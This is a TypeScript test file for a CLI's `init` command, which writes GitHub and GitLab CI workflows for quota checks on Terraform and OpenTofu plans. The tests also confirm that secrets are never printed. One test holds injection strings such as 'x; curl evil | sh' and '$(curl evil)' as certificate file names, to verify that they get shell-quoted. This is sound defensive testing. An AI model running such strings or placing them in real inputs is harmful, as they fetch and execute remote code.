// `quota-gate init` in a repository of a temporary folder: what it finds out, what it writes, and what it never does.

import { execFileSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { git } from "../e2e/dist.ts";
import { ROOT } from "../support/github/runner.ts";
import { findProblems } from "../support/github/workflow-rules.ts";
import { runProcess } from "../support/processes.ts";
import { openTerminalHere } from "../support/terminal.ts";

const CLOUDS = `clouds:
  production:
    auth: { auth_url: "https://keystone.example.org:5000", username: me, password: a-secret-password, project_name: p }
    region_name: fes
    cacert: /etc/ssl/cloud.pem
  staging: { auth: { auth_url: "https://staging.example.org/v3" } }
`;
const MARK = "TODO(quota-gate)";

/** Opens a repository with files that are not committed, in which the command runs. */
async function openRepository(files: Readonly<Record<string, string>>) {
  const terminal = await openTerminalHere(files);
  git(terminal.folder, "init", "--quiet");
  return {
    root: terminal.folder,
    init: (args: string, env: Readonly<Record<string, string>> = {}) =>
      terminal.run(["init", ...args.split(" ")], { env: { PATH: process.env["PATH"] ?? "", ...env } }),
    has: (path: string) => existsSync(join(terminal.folder, path)),
    read: (path: string) => readFileSync(join(terminal.folder, path), "utf8"),
    [Symbol.asyncDispose]: () => terminal[Symbol.asyncDispose](),
  };
}

/** Runs the command as a process. */
function initAsProcess(cwd: string, env: Readonly<Record<string, string>> = {}) {
  const args = [join(ROOT, "src/cli.ts"), "init", "github"];
  return runProcess({ args, cwd, env: { PATH: process.env["PATH"] ?? "", HOME: cwd, ...env } });
}

const LOGIN = { OS_AUTH_URL: "https://keystone.example.org:5000/v3", OS_REGION_NAME: "cbk" };

describe("quota-gate init github", () => {
  it("a workflow has the address, the region and the configuration of the folder, and nothing to complete", async () => {
    await using repository = await openRepository({ "main.tf": "" });
    const { status, stdout, stderr } = await initAsProcess(repository.root, LOGIN);
    expect({ status, stderr }).toEqual({ status: 0, stderr: "" });
    const text = repository.read(".github/workflows/quota.yml");
    expect(text).not.toContain(MARK);
    const { env, steps } = parse(text).jobs.quota;
    expect(env).toMatchObject({ OS_AUTH_URL: "https://keystone.example.org:5000/v3", OS_REGION_NAME: "cbk" });
    const head = execFileSync("git", ["rev-parse", "HEAD"], { cwd: ROOT, encoding: "utf8" }).trim();
    expect(steps.at(-1)).toEqual({
      uses: `quota-gate/quota-gate@${head}`,
      with: { plan: `$\{{ runner.temp }}/plan.json\n` },
    });
    expect(steps.slice(2, 5).map(({ run }: { readonly run: string }) => run)).toEqual([
      "terraform init -input=false",
      'terraform plan -input=false -out="$RUNNER_TEMP"/plan.bin',
      'terraform show -json "$RUNNER_TEMP"/plan.bin > "$RUNNER_TEMP"/plan.json',
    ]);
    expect(stdout).toMatch(/^Wrote \.github\/workflows\/quota\.yml\.\n/u);
    expect(stdout).toContain("\ngh secret set OS_APPLICATION_CREDENTIAL_SECRET\n");
  });

  it("a workflow uses the cloud of clouds.yaml, and names its certificate authority, but no secret", async () => {
    await using repository = await openRepository({ "main.tf": "", ".config/openstack/clouds.yaml": CLOUDS });
    const { stdout, stderr } = await repository.init("github --print --cloud production");
    expect(parse(stdout).jobs.quota.env).toMatchObject({
      OS_AUTH_URL: "https://keystone.example.org:5000/v3",
      OS_REGION_NAME: "fes",
    });
    expect(stdout).toContain('echo "OS_CACERT=$RUNNER_TEMP/ca.pem" >> "$GITHUB_ENV"');
    expect(stderr).toContain(
      "openstack --os-cloud production application credential create quota-gate --expiration 20",
    );
    expect(stderr).toContain("gh variable set OS_CA < /etc/ssl/cloud.pem");
    expect(stdout + stderr).not.toContain("a-secret-password");
  });

  it.each([
    ["/etc/my ca.pem", "'/etc/my ca.pem'"],
    ["~/ca.pem", "~/ca.pem"],
    ["x; curl evil | sh", "'x; curl evil | sh'"],
    ["$(curl evil)", "'$(curl evil)'"],
    ["it's", String.raw`'it'\''s'`],
  ])("prints names from a file as words of commands to paste: %s", async (name, word) => {
    const clouds = { production: { auth: { auth_url: LOGIN.OS_AUTH_URL }, cacert: name } };
    await using repository = await openRepository({ "main.tf": "", "clouds.yaml": JSON.stringify({ clouds }) });
    const { stderr } = await repository.init("github --print --cloud production");
    expect(stderr).toContain(`\ngh variable set OS_CA < ${word}\n`);
  });

  it("a region that a workflow would expand is left to the user", async () => {
    await using repository = await openRepository({ "main.tf": "" });
    const { stdout } = await repository.init("github --print", { ...LOGIN, OS_REGION_NAME: `$\{{ secrets.OTHER }}` });
    expect(stdout).toContain(`${MARK}: OS_REGION_NAME`);
    expect(stdout).not.toContain("secrets.OTHER");
  });

  it.each<[what: string, env: Record<string, string>]>([
    ["a password", { ...LOGIN, OS_USERNAME: "me", OS_PASSWORD: "a-secret-password" }],
    ["the secret of an application credential", { ...LOGIN, OS_APPLICATION_CREDENTIAL_SECRET: "a-secret-password" }],
    ["a token", { ...LOGIN, OS_TOKEN: "a-secret-password" }],
    ["a password in the address", { OS_AUTH_URL: "https://me:a-secret-password@keystone.example.org/v3" }],
    ["a password in the address of the API", { QUOTA_GATE_API_URL: "https://me:a-secret-password@quota.example.org" }],
  ])("neither writes nor prints %s", async (_, env) => {
    await using repository = await openRepository({ "main.tf": "" });
    const { stdout, stderr } = await repository.init("github", env);
    const written = repository.has(".github/workflows/quota.yml") ? repository.read(".github/workflows/quota.yml") : "";
    expect(stdout + stderr + written).not.toContain("a-secret-password");
  });

  it.each<[what: string, files: Record<string, string>, expected: readonly string[]]>([
    ["a file of OpenTofu", { "main.tofu": "" }, ["tofu init", "opentofu/setup-opentofu@"]],
    [
      "a lock file of OpenTofu",
      { "main.tf": "", ".terraform.lock.hcl": 'provider "registry.opentofu.org/x/y" {}' },
      ["tofu init"],
    ],
    ["the only configuration in a folder", { "infra/main.tf": "" }, ["terraform -chdir=infra/ init"]],
    [
      "no module, test or example",
      { "modules/x/main.tf": "", "examples/y/main.tf": "", "z/tests/main.tf": "", "live/main.tf": "" },
      ["terraform -chdir=live/ init"],
    ],
    ["declared plans in JSON", { "quota/a.json": "{}" }, ["quota/*.{json,yaml,yml}"]],
    ["declared plans in YAML", { "quota/a.yaml": "{}" }, ["quota/*.{json,yaml,yml}"]],
    ["both", { "main.tf": "", "quota/a.yml": "{}" }, ["/plan.json\n            quota/*.{json,yaml,yml}\n"]],
    [
      "nothing",
      { "README.md": "" },
      [`${MARK}: there is neither a configuration nor a plan yet`, `${MARK}: the address of Keystone`],
    ],
  ])("the command finds %s", async (_, files, expected) => {
    await using repository = await openRepository(files);
    const { status, stdout } = await repository.init("github --print");
    expect(status).toBe(0);
    for (const text of expected) expect(stdout).toContain(text);
    expect(stdout.includes("modules") || stdout.includes("examples")).toBe(false);
    expect(stdout).not.toContain(`${MARK}: plan the other`);
  });

  it.each(["my stack", "täst"])(
    "a workflow says that the configuration in the folder %s is not planned",
    async (name) => {
      await using repository = await openRepository({ [`${name}/main.tf`]: "" });
      const { stdout } = await repository.init("github --print");
      expect(stdout).toContain(`${MARK}: plan the configuration whose folder's name needs quotes, too`);
      expect(stdout).not.toContain("there is neither");
    },
  );

  it("plans the configuration of the folder it runs in, and marks that there are others", async () => {
    await using repository = await openRepository({ "a/main.tf": "", "b/main.tf": "" });
    const { status } = await initAsProcess(join(repository.root, "b"), LOGIN);
    expect(status).toBe(0);
    const text = repository.read(".github/workflows/quota.yml");
    expect(text).toContain("terraform -chdir=b/ init");
    expect(text).toContain(`# ${MARK}: plan the other configurations, too (a/): https://github.com/`);
  });

  it("marks the address and the region if nothing says them", async () => {
    await using repository = await openRepository({ "main.tf": "" });
    const { status, stdout } = await repository.init("github");
    expect(status).toBe(0);
    expect(stdout).toContain(`Complete what is marked "${MARK}" in it.`);
    expect(
      repository.read(".github/workflows/quota.yml").match(/TODO\(quota-gate\): (?:the address|OS_REGION_NAME)/gu),
    ).toHaveLength(2);
  });

  it("an existing workflow is left unchanged", async () => {
    await using repository = await openRepository({ "main.tf": "", ".github/workflows/quota.yml": "mine\n" });
    const { status, stdout, stderr } = await repository.init("github");
    expect({ status, stdout }).toEqual({ status: 2, stdout: "" });
    expect(stderr).toContain(
      "`.github/workflows/quota.yml` was not written: it exists already. Print it with `--print`",
    );
    expect(repository.read(".github/workflows/quota.yml")).toBe("mine\n");
  });

  it("needs a repository", async () => {
    const root = await mkdtemp(join(tmpdir(), "quota-gate-no-repository-"));
    const { status, stderr } = await initAsProcess(root, { GIT_CEILING_DIRECTORIES: tmpdir() });
    expect(status).toBe(2);
    expect(stderr).toContain("This folder is in no Git repository, or Git is not installed. Run it in the repository");
    await rm(root, { recursive: true });
  });

  it("another system is refused with the names of known ones", async () => {
    await using repository = await openRepository({});
    const { status, stderr } = await repository.init("bitbucket");
    expect(status).toBe(2);
    expect(stderr).toMatch(/github.*gitlab/u);
  });

  it("pins the actions that the documents pin, and keeps to their rules", async () => {
    await using repository = await openRepository({ "main.tofu": "", "x/main.tf": "" });
    const { stdout } = await repository.init("github --print", LOGIN);
    const pins = [...stdout.matchAll(/uses: ((?!quota-gate).*)$/gmu)].map(([, pin = ""]) => pin);
    const documents = ["docs/monorepos.md", "docs/terraform.md"].map((name) => readFileSync(join(ROOT, name), "utf8"));
    expect(pins).toHaveLength(2);
    expect(pins.filter((pin) => !documents.some((text) => text.includes(pin)))).toEqual([]);
    expect(findProblems(stdout).filter((problem) => problem.includes("pinned"))).toEqual([]);
  });
});

describe("quota-gate init gitlab", () => {
  it("a pipeline plans and checks, with the component at this commit", async () => {
    await using repository = await openRepository({ "infra/main.tf": "", "quota/a.json": "{}" });
    const env = { ...LOGIN, QUOTA_GATE_API_URL: "https://quota.example.org:5001/" };
    const { status, stdout } = await repository.init("gitlab", env);
    expect(status).toBe(0);
    const { include, variables, plan } = parse(repository.read(".gitlab-ci.yml"));
    expect(include).toEqual([
      {
        component: expect.stringMatching(/^gitlab\.com\/quota-gate\/quota-gate\/check@[0-9a-f]{40}$/u),
        inputs: { plan: "plan.json", options: ["quota/*.{json,yaml,yml}"] },
      },
    ]);
    expect(variables).toEqual({
      OS_AUTH_TYPE: "v3applicationcredential",
      ...LOGIN,
      QUOTA_GATE_API_URL: "https://quota.example.org:5001",
    });
    expect(plan.script.at(-1)).toBe("terraform -chdir=infra/ show -json plan.bin > plan.json");
    const stored = [...stdout.matchAll(/glab variable set (\w+)/gu)].map(([, name]) => name);
    expect(stored).toEqual([
      "OS_APPLICATION_CREDENTIAL_ID",
      "OS_APPLICATION_CREDENTIAL_SECRET",
      "GITLAB_TOKEN",
      "QUOTA_GATE_RECORD_KEY",
    ]);
    expect(stdout).toContain("glab variable set OS_APPLICATION_CREDENTIAL_SECRET --masked --raw");
  });

  it.each([
    "git@gitlab.example.org:octo/infra.git",
    "https://gitlab.example.org/octo/infra.git",
    "ssh://git@gitlab.example.org:2222/octo/infra.git",
  ])("a pipeline on another instance asks for a mirror of the component: %s", async (origin) => {
    await using repository = await openRepository({ "main.tf": "" });
    execFileSync("git", ["remote", "add", "origin", origin], { cwd: repository.root });
    const { stdout } = await repository.init("gitlab --print", LOGIN);
    expect(stdout).toContain("component: $CI_SERVER_FQDN/quota-gate/quota-gate/check@");
    expect(stdout).toContain("gitlab-url: https://gitlab.example.org\n");
    expect(stdout).toContain(`# ${MARK}: mirror the component`);
  });
});
